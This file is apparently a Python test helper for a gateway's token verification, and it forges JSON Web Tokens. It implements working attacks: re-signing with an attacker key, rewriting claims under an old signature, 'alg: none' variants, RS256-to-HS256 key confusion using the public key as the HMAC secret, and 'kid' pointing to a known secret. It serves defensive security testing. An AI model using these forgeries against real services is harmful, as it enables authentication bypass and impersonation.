"""Tokens and assertions that nobody issued."""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator, Mapping
from datetime import datetime
from functools import cache
from typing import Any, cast

from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc import jwt
from joserfc.jwk import RSAKey

from ev_service.assertion import CONTEXT_CLAIM, ISSUER
from wso2_provisioning.verification.formatting import decode_jwt

Claims = Mapping[str, Any]
_RS256 = "RS256"
ASSERTION_LIFE_S = 900


@cache
def own_key() -> RSAKey:
    """The attacker's key."""
    return RSAKey.generate_key(2048)


def sign_claims(header: Mapping[str, Any], claims: Claims, key: RSAKey | None = None) -> str:
    """Sign claims, with the attacker's key unless another is given."""
    return jwt.encode(dict(header) | {"alg": _RS256}, dict(claims), key or own_key(), [_RS256])


def replace_signature(token: str, header: Mapping[str, Any] | None = None, **claims: object) -> str:
    """The same header and claims under the attacker's signature.

    Args:
        token: a genuine one.
        header: fields put into its header.
        claims: fields put into its claims.
    """
    own_header, own_claims = decode_jwt(token)
    return sign_claims(own_header | dict(header or {}), own_claims | claims)


def rewritten(token: str, **claims: object) -> str:
    """A genuine token with other claims under its old signature."""
    header, _, rest = token.partition(".")
    _, own_claims = decode_jwt(token)
    return f"{header}.{_segment(own_claims | claims)}.{rest.partition('.')[2]}"


def remove_signature(token: str) -> Iterator[str]:
    """The same claims with `alg: none` in every spelling that a careless reader takes."""
    header, claims = decode_jwt(token)
    for algorithm in ("none", "None", "NONE", "nOnE", ""):
        for signature in ("", token.rpartition(".")[2]):
            yield f"{_segment(header | {'alg': algorithm})}.{_segment(claims)}.{signature}"


def sign_with_public_key(token: str, public: RSAPublicKey, certificate_pem: bytes | None = None) -> Iterator[str]:
    """The same claims signed by HMAC with the public key as the secret, in every form that it is written in."""
    header, claims = decode_jwt(token)
    forms = [
        public.public_bytes(encoding, form)
        for encoding in (Encoding.PEM, Encoding.DER)
        for form in (PublicFormat.SubjectPublicKeyInfo, PublicFormat.PKCS1)
    ]
    forms += [form.strip() for form in forms if form.startswith(b"-----")]
    yield from (_with_hmac(header, claims, secret) for secret in [*forms, *filter(None, [certificate_pem])])


def sign_with_key_id(token: str, kid: str, secret: bytes = b"") -> str:
    """The same claims signed by HMAC under a `kid` that leads to a secret which the attacker knows."""
    header, claims = decode_jwt(token)
    return _with_hmac(header | {"kid": kid}, claims, secret)


def public_keys(jwks: Mapping[str, Any]) -> list[RSAPublicKey]:
    """The RSA keys of a JWKS document."""
    listed = cast("list[dict[str, Any]]", jwks.get("keys", []))
    return [RSAKey.import_key(key).public_key for key in listed if key.get("kty") == "RSA"]


def assertion(context: str, now: datetime, key: RSAKey | None = None, *, age_s: float = 0.0, **claims: object) -> str:
    """An assertion as the gateway makes them.

    Args:
        context: of the API for which it claims to be made.
        now: the run's time.
        key: the gateway's own, else the attacker's.
        age_s: how long ago it was made [s].
        claims: besides, or instead.
    """
    made_at = int(now.timestamp() - age_s)
    said = {"iss": ISSUER, "iat": made_at, "exp": made_at + ASSERTION_LIFE_S, CONTEXT_CLAIM: context}
    return sign_claims({"typ": "JWT"}, said | claims, key)


def _with_hmac(header: Mapping[str, Any], claims: Claims, secret: bytes) -> str:
    # By hand: libraries refuse to take a public key for a secret, which is the point of the attack.
    text = f"{_segment(dict(header) | {'alg': 'HS256'})}.{_segment(claims)}"
    return f"{text}.{_letters(hmac.digest(secret, text.encode(), hashlib.sha256))}"


def _segment(value: Mapping[str, Any]) -> str:
    return _letters(json.dumps(value, separators=(",", ":")).encode())


def _letters(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).decode().rstrip("=")
